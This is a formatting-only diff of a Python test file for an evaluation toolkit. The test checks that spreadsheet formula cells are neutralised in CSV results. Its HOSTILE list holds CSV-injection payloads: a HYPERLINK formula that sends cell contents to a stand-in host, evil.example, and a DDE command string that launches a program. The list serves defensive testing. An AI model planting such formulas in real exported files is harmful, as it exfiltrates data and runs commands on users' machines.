@@ -10,21 +10,37 @@ import pandas as pd
 from conftest import SMALL_CRITERIA, evalkit, make_workspace
 from evalkit.analysis.tables import neutralise_formula
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-           "\tgo", "\rgo"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\tgo",
+    "\rgo",
+]
 
-SUITE = "\n".join([
-    'id: s', 'version: "1"', 'title: 試験', 'criterion: leaf', 'prompt: "{{ q }}"', "scorers: [{kind: exact}]",
-    "items:",
-    *[f"  - id: i{n}\n    vars: {{q: {text!r}}}\n    reference: x" for n, text in enumerate(HOSTILE)],
-    "  - {id: plain, vars: {q: 普通の回答}, reference: x}",
-])
+SUITE = "\n".join(
+    [
+        "id: s",
+        'version: "1"',
+        "title: 試験",
+        "criterion: leaf",
+        'prompt: "{{ q }}"',
+        "scorers: [{kind: exact}]",
+        "items:",
+        *[f"  - id: i{n}\n    vars: {{q: {text!r}}}\n    reference: x" for n, text in enumerate(HOSTILE)],
+        "  - {id: plain, vars: {q: 普通の回答}, reference: x}",
+    ]
+)
 
 
 def test_formula_cells_are_neutralised_in_csv_only(tmp_path):
-    work = make_workspace(tmp_path / "w", {"s": SUITE},
-                          {"echo": "id: echo\nname: エコー\nprovider: reference\nmodel: echo\n"},
-                          criteria=SMALL_CRITERIA)
+    work = make_workspace(
+        tmp_path / "w",
+        {"s": SUITE},
+        {"echo": "id: echo\nname: エコー\nprovider: reference\nmodel: echo\n"},
+        criteria=SMALL_CRITERIA,
+    )
     proc = evalkit("run", "--out", "run", "-q", cwd=work)
     assert proc.returncode == 0, proc.stderr
     with open(work / "run" / "results.csv", encoding="utf-8", newline="") as f:
